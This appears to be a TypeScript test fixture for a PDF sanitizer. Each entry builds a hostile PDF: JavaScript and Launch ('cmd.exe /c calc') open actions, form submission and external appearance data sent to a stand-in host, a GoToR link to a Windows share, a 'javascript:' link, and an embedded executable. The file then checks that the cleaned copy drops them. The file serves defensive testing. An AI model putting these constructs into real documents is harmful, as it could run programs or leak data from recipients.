/** PDFs an applicant's upload keeps once made inert: their actions, active annotations and embedded files taken out. */
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { fixture } from './fixture-files.js';
import { pe } from './hostile-binaries.js';
import { facturX, formPdf, formPdfWithAppearance, pdfWithPages, rawPdf, rawStream, readerExtendedForm } from './hostile-pdfs.js';

/** The action a PDF runs when it opens, as pdf-lib writes it. */
const openAction = (entries: Record<string, unknown>) => (document: PDFDocument) => {
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj(entries as never)));
};

/** A PDF kept without its actions: what it carries, and byte strings of it that its clean copy must not hold. */
export interface InertPdf {
  name: string;
  bytes(): Promise<Buffer>;
  absent: string[];
}

/**
 * PDFs whose actions and active annotations are taken out, and that are kept once inert (JavaScript and launch
 * actions included: forms of public offices carry field-formatting scripts). Uncompressed but the second, and
 * written again uncompressed, so that `absent` is a meaningful check of the bytes.
 */
export const INERT_PDFS: InertPdf[] = [
  {
    name: 'a PDF running JavaScript when it opens',
    bytes: () => pdfWithPages(1, openAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x")') }), false),
    absent: ['/OpenAction', '/JavaScript', 'app.alert'],
  },
  {
    name: 'a PDF whose JavaScript hides in a compressed object stream',
    bytes: async () => {
      const bytes = await pdfWithPages(1, openAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.org")') }));
      if (bytes.includes('JavaScript')) throw new Error('The action was meant to be compressed');
      return bytes;
    },
    absent: [],
  },
  {
    name: 'a PDF with document-level JavaScript (in its names tree)',
    bytes: async () => rawPdf({ catalog: '/Names << /JavaScript << /Names [(a) 100 0 R] >> >>', extra: ['<< /S /JavaScript /JS (this.print()) >>'] }),
    absent: ['/JavaScript', 'this.print'],
  },
  {
    name: 'a PDF launching a program',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
    absent: ['/Launch', 'cmd.exe'],
  },
  {
    name: 'a PDF opening an address when it opens (URI)',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /URI /URI (https://collecte.example/ouvert) >> /URI << /Base (https://collecte.example/) >>' }),
    absent: ['/OpenAction', '/URI', 'collecte.example'],
  },
  {
    name: 'a PDF submitting its form to any address',
    bytes: async () =>
      formPdf({
        catalog: '/OpenAction 102 0 R',
        extra: ['<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://collecte.example/formulaire) >> /Flags 4 >>'],
      }),
    absent: ['/SubmitForm', 'collecte.example'],
  },
  {
    name: 'a PDF opening a document of a Windows share (GoToR to \\\\serveur\\partage)',
    bytes: async () => rawPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\avis.pdf) /D [0 /Fit] /NewWindow true >>' }),
    absent: ['/GoToR', 'serveur'],
  },
  {
    name: 'a PDF importing form data from a file (ImportData)',
    bytes: async () => formPdf({ catalog: '/OpenAction << /S /ImportData /F (donnees.fdf) >>' }),
    absent: ['/ImportData', 'donnees.fdf'],
  },
  {
    name: 'a PDF with a link to javascript:',
    bytes: async () =>
      rawPdf({ page: '/Annots [100 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A << /S /URI /URI (javascript:app.alert(1)) >> >>'] }),
    absent: ['javascript:', '/Link'],
  },
  {
    name: 'a PDF playing a video (Screen annotation and Rendition action)',
    bytes: async () =>
      rawPdf({
        page: '/Annots [100 0 R]',
        extra: [
          '<< /Type /Annot /Subtype /Screen /Rect [72 400 300 600] /P 10 0 R /A 101 0 R /AA << /PO 101 0 R >> >>',
          '<< /Type /Action /S /Rendition /OP 0 /AN 100 0 R /JS (this.print()) /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D << /Type /Filespec /FS /URL /F (https://collecte.example/video.mp4) >> >> >> >>',
        ],
      }),
    absent: ['/Rendition', '/Screen', 'video.mp4'],
  },
  {
    name: 'a PDF with a 3D annotation',
    bytes: async () =>
      rawPdf({ page: '/Annots [100 0 R]', extra: ['<< /Type /Annot /Subtype /3D /Rect [72 400 300 600] /3DD 101 0 R /3DA << /A /PO >> >>', rawStream('U3D-MODEL', '/Type /3D /Subtype /U3D')] }),
    absent: ['/3D', 'U3D'],
  },
  {
    name: 'a form with additional actions on its page and its field (JavaScript formatting)',
    bytes: async () =>
      formPdf({
        page: '/AA << /O << /S /JavaScript /JS (app.alert("page")) >> >>',
        field: '/AA << /K << /S /JavaScript /JS (AFSpecial_Keystroke(0)) >> /F 102 0 R >>',
        extra: ['<< /S /JavaScript /JS (AFSpecial_Format(0)) >>'],
      }),
    absent: ['/AA', 'AFSpecial', 'app.alert'],
  },
  { name: 'a filled, Reader-extended form (usage rights /Perms /UR3)', bytes: async () => readerExtendedForm(), absent: ['/Perms', '/UR3'] },
  { name: 'a PDF encrypted with restrictions only (made by qpdf), decrypted', bytes: async () => fixture('restricted.pdf'), absent: ['/Encrypt'] },
  {
    name: 'a PDF with an embedded file (an executable, in its attachments and associated files)',
    bytes: () => pdfWithPages(1, async (document) => document.attach(pe(), 'lisez-moi.exe', { mimeType: 'application/octet-stream' }), false),
    absent: ['lisez-moi.exe', '/EmbeddedFile', '/AF'],
  },
  {
    name: 'a PDF with a file attachment annotation',
    bytes: async () =>
      rawPdf({
        page: '/Annots [100 0 R]',
        extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /Name /PushPin /FS << /Type /Filespec /F (lisez-moi.exe) /EF << /F 101 0 R >> >> >>', rawStream('MZ', '/Type /EmbeddedFile')],
      }),
    absent: ['/FileAttachment', 'lisez-moi.exe', '/EmbeddedFile'],
  },
  { name: 'a Factur-X invoice (a PDF/A-3 energy bill carrying its factur-x.xml)', bytes: async () => facturX(), absent: ['CrossIndustryInvoice', '/EmbeddedFile', '/AF'] },
  {
    name: 'a form whose field appearance takes data from outside (external stream data, reference XObject, OPI)',
    bytes: async () =>
      formPdfWithAppearance(
        '/F << /FS /URL /F (https://collecte.example/apparence) >> /Ref << /F << /FS /URL /F (https://collecte.example/reference.pdf) >> /Page 0 >> ' +
          '/OPI << /2.0 << /Type /OPI /Version 2.0 /F << /FS /URL /F (https://collecte.example/opi.tif) >> /Inks /full_color >> >>',
      ),
    absent: ['collecte.example', '/Ref', '/OPI'],
  },
];
